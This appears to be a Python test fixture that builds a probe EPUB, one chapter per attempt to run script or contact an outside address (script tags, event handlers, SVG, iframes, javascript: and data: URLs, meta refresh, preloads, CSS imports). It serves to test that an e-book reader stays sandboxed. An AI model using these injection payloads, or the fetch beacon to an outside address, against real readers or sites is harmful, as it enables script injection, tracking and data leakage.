"""Everything by which a book could try to run a script or to call somebody, one way a chapter."""

from __future__ import annotations

from html import escape
from typing import Final

from tests.factories.epubs import Epub, epub, page

SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
# What a chapter says when a script of its has run: it is heard by the test, and calls out.
CRY = (
    "console.error('RAN {name}');fetch('{away}/ran/{name}',{{mode:'no-cors'}}).catch(String);"
    "new Image().src='{away}/img/{name}'"
)

_IN_BODY: Final = {
    "inline": "<script>{cry}</script>",
    "src": '<script src="evil.js"></script>',
    "module": '<script type="module">{cry}</script>',
    "module-src": '<script type="module" src="evil.js"></script>',
    "data": '<script src="data:text/javascript,{cry_url}"></script>',
    "disguised": '<script src="picture.png"></script>',
    "away": '<script src="{away}/script/away"></script>',
    "onerror": '<img src="absent.png" alt="" onerror="{cry_attribute}"/>',
    "onload": '<img src="dot.svg" alt="" onload="{cry_attribute}"/>',
    "svg-onload": "<svg {svg} onload=\"{cry_attribute}\"><circle r='1'/></svg>",
    "svg-script": "<svg {svg}><script>{cry}</script></svg>",
    "svg-href": '<svg {svg}><script xlink:href="evil.js"/></svg>',
    "svg-animate": '<svg {svg}><animate attributeName="x" dur="1s" onbegin="{cry_attribute}"/></svg>',
    "svg-use": '<svg {svg}><use xlink:href="{away}/use/svg-use#a"/></svg>',
    "object": '<object data="evil.svg" type="image/svg+xml"></object>',
    "object-away": '<object data="{away}/object/object-away"></object>',
    "embed": '<embed src="evil.svg" type="image/svg+xml"/>',
    "srcdoc": '<iframe srcdoc="&lt;script&gt;{cry_attribute}&lt;/script&gt;"></iframe>',
    "frame-script": '<iframe src="javascript:{cry_attribute}"></iframe>',
    "frame-data": '<iframe src="data:text/html,&lt;script&gt;{cry_attribute}&lt;/script&gt;"></iframe>',
    "frame-nested": '<iframe src="nested.xhtml"></iframe>',
    "frame-away": '<iframe src="{away}/frame/frame-away"></iframe>',
    "form": '<form action="{away}/form/form"><button id="press">Gửi</button></form>',
    "formaction": '<form><button id="press" formaction="javascript:{cry_attribute}">Gửi</button></form>',
    "details": '<details open="open" ontoggle="{cry_attribute}"><summary>x</summary></details>',
    "autofocus": '<input autofocus="autofocus" onfocus="{cry_attribute}"/>',
    "link-script": '<p><a id="press" href="javascript:{cry_attribute}">Bấm vào đây</a></p>',
    "link-data": '<p><a id="press" href="data:text/html,&lt;script&gt;{cry_attribute}&lt;/script&gt;">Bấm</a></p>',
    "link-blank": '<p><a id="press" target="_blank" href="{away}/link/link-blank">Bấm</a></p>',
    "link-ping": '<p><a id="press" href="#x" ping="{away}/ping/link-ping">Bấm</a></p>',
    "style-away": "<p style=\"background: url('{away}/css/style-away')\">nền</p>",
    "image-away": '<img src="{away}/image/image-away" alt="" srcset="{away}/srcset/image-away 2x"/>',
    "media-away": '<audio src="{away}/audio/x" autoplay="autoplay"/><video poster="{away}/poster/x"/>',
}
_IN_HEAD: Final = {
    "refresh": '<meta http-equiv="refresh" content="0;url={away}/refresh/refresh"/>',
    "refresh-script": '<meta http-equiv="refresh" content="0;url=javascript:{cry_attribute}"/>',
    "base": '<base href="{away}/base/"/><script src="evil.js"></script><link rel="stylesheet" href="a.css"/>',
    "prefetch": '<link rel="prefetch" href="{away}/prefetch/prefetch"/><link rel="dns-prefetch" href="{away}/"/>',
    "preconnect": '<link rel="preconnect" href="{away}/"/>',
    "preload": '<link rel="preload" as="script" href="{away}/preload/preload"/>',
    "modulepreload": '<link rel="modulepreload" href="{away}/modulepreload/modulepreload"/>',
    "sheet-away": '<link rel="stylesheet" href="{away}/sheet/sheet-away"/>',
    "import": "<style>@import url('{away}/import/import');</style>",
    "font": "<style>@font-face {{ font-family: x; src: url('{away}/font/font') }} body {{ font-family: x }}</style>",
    "icon": '<link rel="icon" href="{away}/icon/icon"/><link rel="manifest" href="{away}/manifest/icon"/>',
    "policy": '<meta http-equiv="Content-Security-Policy"'
    " content=\"script-src * 'unsafe-inline'\"/><script>{cry}</script>",
}
NAMES: Final = (*_IN_BODY, *_IN_HEAD)
SENTENCE: Final = "Con nghé uống hết vầng trăng trong chum, lần thứ {number}."


def probe(away: str) -> Epub:
    """A book with one chapter a way; `away` is an address that must hear nothing."""
    made = epub([f"<p>{SENTENCE.format(number=number)}</p>" for number, _ in enumerate(NAMES, 1)], title="Sách dò")
    for number, name in enumerate(NAMES, 1):
        made.put(f"OEBPS/c{number}.xhtml", _chapter(name, number, away))
    cry = CRY.format(name="file", away=away)
    svg = f'<svg {SVG} onload="{escape(cry)}"><script>{escape(cry)}</script></svg>'
    made.put("OEBPS/evil.js", cry).put("OEBPS/picture.png", cry).put("OEBPS/evil.svg", svg)
    made.put("OEBPS/dot.svg", f'<svg {SVG} width="4" height="4"><circle r="2"/></svg>')
    made.put("OEBPS/nested.xhtml", page(f"<script>{escape(cry)}</script>"))
    extras = [
        ("evil.js", "text/javascript"),
        ("picture.png", "image/png"),
        ("evil.svg", "image/svg+xml"),
        ("dot.svg", "image/svg+xml"),
        ("nested.xhtml", "application/xhtml+xml"),
    ]
    items = "".join(f'<item id="x{i}" href="{name}" media-type="{kind}"/>' for i, (name, kind) in enumerate(extras))
    return made.edit("OEBPS/package.opf", "</manifest>", f"{items}</manifest>")


def _chapter(name: str, number: int, away: str) -> str:
    cry = CRY.format(name=name, away=away)
    values = {
        "away": away,
        "svg": SVG,
        "cry": escape(cry, quote=False),
        "cry_attribute": escape(cry),
        "cry_url": escape(cry.replace("'", "%27")),
    }
    head = _IN_HEAD.get(name, "").format(**values)
    body = _IN_BODY.get(name, "").format(**values)
    return page(f"<p>{SENTENCE.format(number=number)}</p>{body}", title=name, head=head)
